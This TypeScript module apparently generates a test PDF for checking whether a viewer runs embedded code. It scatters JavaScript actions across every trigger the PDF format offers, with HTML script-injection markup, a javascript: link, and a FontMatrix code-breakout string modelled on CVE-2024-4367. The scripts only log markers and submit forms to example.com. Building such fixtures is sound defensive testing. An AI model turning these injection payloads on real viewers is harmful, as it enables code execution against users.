import { PDFDict, PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from 'pdf-lib';

/**
 * A script for every place in which a document may have one (ISO 32000-2 §12.6.3, §12.6.4.17), and for the places in
 * which a viewer has been talked into running it: each leaves its name in `window.ran` and asks a host on the web.
 */
const scriptOf = (place: string): string =>
  `try { (globalThis.ran = globalThis.ran || []).push('${place}') } catch (e) {} ` +
  `app.alert('${place}'); this.submitForm('https://example.com/${place}'); app.launchURL('https://example.com/${place}');`;

/** What breaks out of generated code or of a page, where some reader puts it there. */
const BREAKING = "1); (globalThis.ran = globalThis.ran || []).push('breaking'); (0";
const MARKUP = `"><img src=x onerror="(window.ran = window.ran || []).push('markup')"><script>window.ran=['markup']</script>`;

/** @returns a page with text, a form whose field has scripts of every kind, and more of the same around them */
export async function scriptedDocument(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const { context, catalog } = document;
  const action = (place: string) =>
    context.register(context.obj({ S: 'JavaScript', JS: PDFHexString.fromText(scriptOf(place)) }));
  const actions = (owner: string, ...keys: string[]) =>
    context.obj(Object.fromEntries(keys.map((key) => [key, action(`${owner}-${key}`)])));
  const page = document.addPage([595, 842]);
  const font = await document.embedFont(StandardFonts.Helvetica);
  page.drawText('Scripted, and otherwise like any other', { x: 60, y: 760, size: 18, font });

  const form = document.getForm();
  const text = form.createTextField('amount');
  text.setText('100');
  text.addToPage(page, { x: 60, y: 680, width: 200, height: 24, font });
  const button = form.createButton(`button${MARKUP}`);
  button.addToPage(MARKUP, page, { x: 60, y: 620, width: 200, height: 24, font });
  for (const [name, field] of Object.entries({ text, button })) {
    const { dict } = field.acroField;
    dict.set(PDFName.of('AA'), actions(`field-${name}`, 'K', 'F', 'V', 'C'));
    dict.set(PDFName.of('TU'), PDFHexString.fromText(MARKUP));
    for (const widget of field.acroField.getWidgets()) {
      const keys = ['E', 'X', 'D', 'U', 'Fo', 'Bl', 'PO', 'PC', 'PV', 'PI'];
      widget.dict.set(PDFName.of('AA'), actions(`widget-${name}`, ...keys));
      widget.dict.set(PDFName.of('A'), action(`widget-${name}-A`));
    }
  }
  const link = context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [60, 560, 300, 590],
    A: action('link'),
    Contents: PDFHexString.fromText(MARKUP),
  });
  const address = context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [60, 520, 300, 550],
    A: { S: 'URI', URI: PDFString.of("javascript:(window.ran=window.ran||[]).push('uri')") },
  });
  for (const annotation of [link, address]) page.node.addAnnot(context.register(annotation));
  page.node.set(PDFName.of('AA'), actions('page', 'O', 'C'));

  catalog.set(PDFName.of('OpenAction'), action('open'));
  catalog.set(PDFName.of('AA'), actions('document', 'WC', 'WS', 'DS', 'WP', 'DP'));
  const names = context.obj([
    PDFHexString.fromText('first'),
    action('named'),
    PDFHexString.fromText(BREAKING),
    action('second'),
  ]);
  catalog.set(PDFName.of('Names'), context.obj({ JavaScript: { Names: names } }));
  catalog.lookup(PDFName.of('AcroForm'), PDFDict).set(PDFName.of('CO'), context.obj([text.ref]));
  document.setTitle(MARKUP);

  // The way of an earlier advisory (CVE-2024-4367): a font matrix that became code.
  const drawing = context.stream('500 0 d0 0 0 m 500 0 l 500 500 l h f');
  const type3 = context.obj({
    Type: 'Font',
    Subtype: 'Type3',
    FontBBox: [0, 0, 500, 500],
    FontMatrix: [0.001, 0, 0, 0.001, 0, PDFHexString.fromText(BREAKING)],
    CharProcs: { a: context.register(drawing) },
    Encoding: { Type: 'Encoding', Differences: [97, PDFName.of('a')] },
    FirstChar: 97,
    LastChar: 97,
    Widths: [500],
  });
  page.node.setFontDictionary(PDFName.of('Scripted'), context.register(type3));
  const drawn = context.stream('BT /Scripted 20 Tf 60 480 Td (a) Tj ET');
  page.node.addContentStream(context.register(drawn));
  return document.save({ useObjectStreams: false });
}
